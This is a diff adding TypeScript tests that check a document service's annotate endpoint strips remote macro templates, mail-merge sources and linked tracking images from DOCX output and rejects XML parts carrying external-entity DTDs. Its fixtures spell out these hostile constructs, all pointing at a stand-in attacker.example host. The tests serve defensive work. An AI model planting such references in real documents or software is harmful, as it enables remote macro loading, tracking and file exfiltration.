@@ -4,6 +4,7 @@ import { deflateSync, unzipSync } from "fflate";
 import { PDFDict, PDFDocument, PDFName } from "pdf-lib";
 import { DocxTemplate } from "../../src/docx/template";
 import * as T from "../../src/docx/testing";
+import * as B from "../support/docx-builder";
 import { readZipDirectory } from "../../src/docx/zip";
 import { annotateDocument } from "../../src/operations/annotate";
 import { b64, corpusPdf, fromDataUri, post, problem } from "./helpers";
@@ -267,6 +268,76 @@ function renameEntry(zip: Uint8Array, from: string, to: string): Uint8Array {
   for (let i = 0; i + a.length < out.length; i++) if (a.every((v, k) => out[i + k] === v)) out.set(b, i);
   return out;
 }
+
+describe("what annotate returns carries nothing that fetches or runs on opening", () => {
+  const RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+  /** A template whose settings attach a remote macro template and whose picture is also linked to a remote file, with a hyperlink. */
+  function linkedTemplate(): Uint8Array {
+    const picture = B.inlineImage("rIdPic", 20, 20).replace(`<a:blip r:embed="rIdPic"/>`, `<a:blip r:embed="rIdPic" r:link="rIdRemotePic"/>`);
+    return B.buildDocx({
+      body: B.p([B.r("Name: "), `<w:sdt><w:sdtPr><w:tag w:val="client_name"/></w:sdtPr><w:sdtContent>${B.r("x")}</w:sdtContent></w:sdt>`]) + B.p(picture) + B.p(B.hyperlink("rIdLink", "our terms")),
+      media: { rIdPic: T.makePng(4, 4) },
+      rels: [
+        { id: "rIdRemotePic", type: "image", target: "https://attacker.example/track.png", external: true },
+        B.hyperlinkRel("rIdLink", "https://example.com/terms"),
+      ],
+      settings: `<w:attachedTemplate r:id="rIdTpl"/>${B.DEFAULT_SETTINGS}<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/><w:dataSource r:id="rIdData"/></w:mailMerge>`,
+      extra: {
+        "word/_rels/settings.xml.rels":
+          `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+          `<Relationship Id="rIdTpl" Type="${RELS}/attachedTemplate" Target="https://attacker.example/macros.dotm" TargetMode="External"/>` +
+          `<Relationship Id="rIdData" Type="${RELS}/mailMergeSource" Target="file://attacker.example/share/data.mdb" TargetMode="External"/></Relationships>`,
+      },
+    });
+  }
+
+  it("strips a remote attached template, a mail-merge source and a linked picture (to=docx), keeping hyperlinks and the embedded picture", async () => {
+    for (const fields of [[{ id: "client_name", type: "text", value: "Ada" }], []]) {
+      const { bytes } = await filled(linkedTemplate(), fields);
+      const files = unzipSync(bytes);
+      const all = Object.entries(files).map(([, v]) => new TextDecoder().decode(v)).join("\n");
+      expect(all).not.toContain("attacker.example");
+      const settings = T.partText(bytes, "word/settings.xml");
+      expect(settings).not.toMatch(/attachedTemplate|mailMerge|rIdTpl|rIdData/);
+      expect(settings).toContain("<w:defaultTabStop");
+      const doc = T.partText(bytes, "word/document.xml");
+      expect(doc).toContain(`<a:blip r:embed="rIdPic"/>`);
+      expect(doc).toContain(`r:id="rIdLink"`);
+      const rels = T.partText(bytes, "word/_rels/document.xml.rels");
+      expect(rels).toContain("https://example.com/terms");
+      expect(rels).not.toContain("rIdRemotePic");
+    }
+  });
+
+  it("to=pdf renders the same template (the stripped references were never drawn)", async () => {
+    const { bytes } = await filled(linkedTemplate(), [{ id: "client_name", type: "text", value: "Ada" }], "?to=pdf");
+    expect(new TextDecoder().decode(bytes.subarray(0, 5))).toBe("%PDF-");
+  });
+
+  it("refuses a DTD in a part annotate only copies (settings, custom XML, a UTF-16 part), for to=docx as for to=pdf", async () => {
+    const doctype = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "https://attacker.example/e">]>`;
+    const utf16 = (text: string) => {
+      const out = new Uint8Array(2 + text.length * 2);
+      out.set([0xff, 0xfe]);
+      for (let i = 0; i < text.length; i++) out[2 + 2 * i] = text.charCodeAt(i);
+      return out;
+    };
+    const cases: Record<string, string | Uint8Array>[] = [
+      { "word/settings.xml": `${doctype}<w:settings xmlns:w="${T.W_NS}"/>` },
+      { "customXml/item1.xml": `${doctype}<data>&e;</data>` },
+      { "customXml/item1.xml": utf16(`${doctype}<data>&e;</data>`) },
+      { "word/glossary/anything.vml": `${doctype}<xml/>` },
+    ];
+    for (const extra of cases) {
+      const template = B.buildDocx({ body: B.p(`<w:sdt><w:sdtPr><w:tag w:val="client_name"/></w:sdtPr><w:sdtContent>${B.r("x")}</w:sdtContent></w:sdt>`), extra });
+      for (const query of ["", "?to=docx", "?to=pdf"]) {
+        const res = await annotate(template, [{ id: "client_name", type: "text", value: "Ada" }], query);
+        expect(res.status, `${Object.keys(extra)[0]} ${query}`).toBe(422);
+        expect((await problem(res)).code).toBe("xml_doctype_forbidden");
+      }
+    }
+  });
+});
 
 describe("POST /v1/annotate refuses hostile and broken input quickly", () => {
   const timed = async (template: Uint8Array, fields: unknown[] = [{ id: "client_name", type: "text", value: "x" }]) => {
